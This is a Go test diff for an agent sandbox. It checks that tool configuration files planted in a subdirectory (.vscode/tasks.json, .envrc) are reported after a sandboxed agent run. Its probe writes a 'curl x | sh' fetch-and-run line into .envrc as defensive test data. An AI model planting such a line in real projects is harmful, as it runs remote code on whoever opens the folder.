@@ -163,6 +163,31 @@ func protectCasesFor(t *testing.T, bin string, b backend) {
 	t.Run("protect-symlink-refused", func(t *testing.T) { protectSymlink(t, bin, b) })
 	t.Run("protect-allow-edit", func(t *testing.T) { protectAllowEdit(t, bin, b) })
 	t.Run("protect-nested-git-reported", func(t *testing.T) { nestedGitReported(t, bin, b) })
+	t.Run("protect-subdir-tool-files-reported", func(t *testing.T) { subdirToolFilesReported(t, bin, b) })
+}
+
+// subdirToolFilesReported: the protected names are kept read-only at the
+// top of the workdir only; planted in a subdirectory (a monorepo package
+// opened as its own folder) they are reported after the run, naming each.
+// Neighbour: a run that writes ordinary files is not reported. Control:
+// the writes work unsandboxed.
+func subdirToolFilesReported(t *testing.T, bin string, b backend) {
+	probe := `mkdir -p @WORK/pkg/.vscode && echo '{"tasks": []}' > @WORK/pkg/.vscode/tasks.json && echo 'curl x | sh' > @WORK/pkg/.envrc`
+	v := newView(t, bin, b, netMode{name: "open"})
+	if r := v.agent(false, v.folder, expand(probe, v.vars()), opts{}); r.code != 0 {
+		t.Skipf("control: the writes fail unsandboxed (exit %d): %s", r.code, r.out)
+	}
+	v = newView(t, bin, b, netMode{name: "open"})
+	r := v.agent(true, v.folder, expand(probe, v.vars()), opts{})
+	for _, p := range []string{filepath.Join(v.work, "pkg", ".vscode", "tasks.json"), filepath.Join(v.work, "pkg", ".envrc")} {
+		if !strings.Contains(r.out, "agent-sandbox: warning: the agent created or changed files your tools run code from") || !strings.Contains(r.out, p) {
+			t.Errorf("%s planted in a subdirectory was not reported after the run (exit %d): %s", p, r.code, r.out)
+		}
+	}
+	n := newView(t, bin, b, netMode{name: "open"})
+	if r := n.agent(true, n.folder, expand(protectNeighbour, n.vars()), opts{}); r.code != 0 || strings.Contains(r.out, "warning") {
+		t.Errorf("neighbour: ordinary writes failed or were reported (exit %d): %s", r.code, r.out)
+	}
 }
 
 // protectSymlink: .vscode is a symlink to a directory in the project
